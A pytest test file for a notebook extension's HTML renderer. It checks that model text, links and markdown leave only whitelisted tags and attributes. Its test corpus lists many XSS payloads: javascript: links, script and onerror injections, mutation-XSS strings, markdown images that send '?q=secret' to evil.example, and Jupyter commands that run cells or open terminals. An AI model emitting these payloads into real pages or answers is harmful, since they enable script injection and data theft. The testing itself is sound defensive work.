"""No text of a model, and no name of one, leads to anything but the tags and attributes listed here."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ollama_magics.render import answer, markdown

ALLOWED = {
    "a": {"href", "target", "rel", "style"},
    "blockquote": {"dir", "style"},
    "br": set[str](),
    "code": {"class", "dir", "style"},
    "details": {"class", "style", "open"},
    **{name: set[str]() for name in ("b", "del", "i", "ins", "kbd", "mark", "q", "samp", "sub", "sup", "u", "var")},
    "div": {"class", "dir", "style"},
    "em": set[str](),
    **{f"h{level}": {"dir"} for level in range(1, 7)},
    "hr": set[str](),
    "img": {"alt", "src", "style"},
    "li": {"style"},
    "ol": {"dir", "start"},
    "p": {"dir", "style"},
    "pre": {"dir", "style"},
    "s": set[str](),
    "small": set[str](),
    "span": {"style", "title"},
    "strong": set[str](),
    "summary": set[str](),
    "table": {"dir", "style"},
    "tbody": set[str](),
    "td": {"style"},
    "th": {"style"},
    "thead": set[str](),
    "tr": set[str](),
    "ul": {"dir"},
}
CLASSES = {"mathjax_ignore", "ollama-magics"}
STYLE = re.compile(r"(?:[a-z-]+:(?:[a-z0-9 .,%#-]|(?:var|rgba)\([^()]*(?:rgba\([0-9,.]*\))?\))+(?:;|$))+")
HREF = re.compile(r"(?:https?://|mailto:)[^\s\"<>\\]+", re.IGNORECASE)

LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript\\:alert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;utf8,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/x",
    "/lab/tree/x",
    "#onclick",
    "https://user:pass@evil.example/",
    "https://evil.example\\@good.example/",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/' style='x",
    "https://[::1",
    "https://",
    "http:evil.example",
    'mailto:a@b.example?subject="><script>alert(1)</script>',
]
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details ontoggle=alert(1) open>",
    "<video poster=https://evil.example/p onloadstart=alert(1)><source></video>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>send</button></form>",
    "<button data-commandlinker-command='notebook:run-all-cells'>run</button>",
    "<a data-commandlinker-command='terminal:create-new' href='#'>x</a>",
    "<a id=MathJax href=x>clobber</a><form name=jupyterapp><input name=commands></form>",
    "<div class=jp-Cell style='background:url(https://evil.example/x)'>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=x></object><embed src=x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><x-element onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "</div></td></table><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    # the tags that are allowed without attributes
    "<b onclick=alert(1)>x</b> <b/onclick=alert(1)>x</b> <b\nonclick=alert(1)>x</b>",
    "<sub style='background:url(https://evil.example)'>x</sub> <mark class=jp-Cell>x</mark> <kbd id=MathJax>x</kbd>",
    "<br onload=alert(1)><br/onload=alert(1)> <hr onload=alert(1)>",
    "<details ontoggle=alert(1)>\n<summary onclick=alert(1)>x</summary>\n</details>",
    "<details>\n<summary><script>alert(1)</script></summary>\n<img src=x onerror=alert(1)>\n</details>",
    "<details><summary></details><script>alert(1)</script></summary>\n</div>",
    "<b><i></b></i><sub><sup></sub></sup></b></div><u>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--\n--!><img src=x onerror=alert(1)>\n-->",
    "<!-->\n<script>alert(1)</script>\n-->",
    "<code>$\\href{javascript:alert(1)}{x}$</code>",
]
MARKDOWN = [
    "![](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    '![x]\n\n[x]: <https://evil.example/?q=secret> "title"',
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![](data:image/svg+xml;base64,PHN2Zy8+)",
    '!["onerror=alert(1)](x)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://evil.example/"onclick=alert(1)>',
    "[x](https://good.example 'title\"onmouseover=alert(1)')",
    '```"onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~python\n'</span><script>alert(1)</script>'\n~~~",
    "    </pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | ![](https://evil.example) |",
    "$<img src=x onerror=alert(1)>$ and \\(</p><script>alert(1)</script>\\)",
    "\\[\n</div><script>alert(1)</script>\n\\]",
    "$$\\href{javascript:alert(1)}{x}$$",
    "# <h1 id=MathJax onclick=alert(1)>\n> <blockquote cite=javascript:alert(1)>",
    "1000000000) <b>x</b>\n- [ ] <input>",
    "https://evil.example/\"onmouseover=\"alert(1) www.evil.example/'onclick='alert(1)",
    "https://user:pass@evil.example/ http://evil.example\\@good.example javascript://evil.example/%0aalert(1)",
    "- [x] <img src=x onerror=alert(1)>\n- [ ] javascript:alert(1)",
    "\\begin{script}alert(1)\\end{script} \\begin{pmatrix}</p><script>alert(1)</script>\\end{pmatrix}",
    "$\\eqref{<script>alert(1)</script>}$ \\ref{<img src=x onerror=alert(1)>}",
    "| `<script>|alert(1)</script>` | $<img|src=x onerror=alert(1)>$ |\n|---|---|\n| <b>a | b</b> |",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
]
CORPUS = [*(f"[x]({link})" for link in LINKS), *(f"[x](<{link}>)" for link in LINKS), *HTML, *MARKDOWN]


class _Reader(HTMLParser):
    # Collects what a browser would see: every tag with its attributes.
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def read(html: str) -> _Reader:
    """Return what the HTML holds, after checking that nothing in it is outside the lists."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert reader.others == []
    for tag, attributes in reader.elements:
        assert tag in ALLOWED
        assert set(attributes) <= ALLOWED[tag], tag
        _check_values(attributes)
    return reader


def _check_values(attributes: dict[str, str]) -> None:
    assert attributes.get("class", "ollama-magics") in CLASSES
    assert attributes.get("dir", "auto") in {"auto", "ltr"}
    assert attributes.get("start", "1").isdigit()
    assert attributes.get("title", "select the code") == "select the code"
    assert STYLE.fullmatch(attributes.get("style", "a:b")), attributes
    if "src" in attributes:
        assert attributes["src"] == "data:image/png;base64,cG5n"
    if "href" in attributes:
        assert HREF.fullmatch(attributes["href"]), attributes
        assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer nofollow")


def everything(text: str) -> str:
    """Return an answer that shows the text wherever a text of others can stand."""
    thoughts = answer.thoughts_html(text, text, open=True)
    footer = answer.footer_html([text, text], [text])
    columns = answer.columns_html([(text, answer.footer_html([text])), (text, answer.thumbnails_html([b"png"], text))])
    return answer.answer_html(thoughts, markdown.to_html(text), footer) + columns


@pytest.mark.parametrize("text", CORPUS)
def test_a_hostile_text_leaves_only_listed_tags_and_attributes(text: str) -> None:
    """As an answer, as a thought, as a figure, as a warning, as the name of a model, beside a thumbnail."""
    read(everything(text))


@pytest.mark.parametrize("around", ["> {}", "- a\n\n  {}", "| a |\n|---|\n| {} |", "# {}", "**{}**", "[{}](https://a.example)"])
@pytest.mark.parametrize("text", CORPUS)
def test_a_hostile_text_stays_harmless_inside_other_markup(text: str, around: str) -> None:
    """Quotes, lists, tables, headings, emphasis and link texts open no door."""
    read(markdown.to_html(around.format(text)))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from([*CORPUS, "\n", "\n\n", "`", "```\n", "$", "\\(", "\\)", "[", "](", ")", "<", ">", "| "])).map(
        "".join
    )
)
def test_no_mixture_of_hostile_texts_opens_a_door(text: str) -> None:
    """Payloads that are cut, joined and nested by the dice."""
    read(everything(text))


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_text_at_all_opens_a_door(text: str) -> None:
    """Any Unicode, lone surrogates included, and the result can be sent."""
    read(everything(text))
    everything(text).encode()


@pytest.mark.parametrize("link", LINKS)
def test_a_link_that_is_refused_shows_its_target_instead(link: str) -> None:
    """A user sees what the model wanted to link to, and cannot click it by mistake."""
    reader = read(markdown.to_html(f"[word](<{link}>)"))
    assert "word" in reader.text
    for _, attributes in reader.elements:
        assert "javascript" not in attributes.get("href", "").lower()


def test_pictures_become_words() -> None:
    """Inline, by reference and inside a link: no picture is loaded, and the host is named."""
    for text in MARKDOWN[:4]:
        html = markdown.to_html(text)
        assert "[image: evil.example — not loaded]" in html
        assert "<img" not in html


@pytest.mark.finding("B2")
def test_entities_cannot_turn_what_stands_around_them() -> None:
    """In text, in the words of links and pictures, in cells and titles; in notebooks and in terminals."""
    turn = "&#x202e;gnp.exe &#8238; &#x2066;"
    source = f"[{turn}](http://e) {turn} ![{turn}](http://e)\n\n|{turn}|\n|-|\n|{turn}|\n\n<details><summary>{turn}</summary>\n\n{turn}"
    shown = markdown.to_html(source) + "".join(
        child.content
        for token in markdown.words_only(source)
        for child in (token, *(token.children or ()))
        if token.type == "inline" and child is not token
    )
    assert "gnp.exe" in shown
    assert not set("\u202e\u2066") & set(shown)
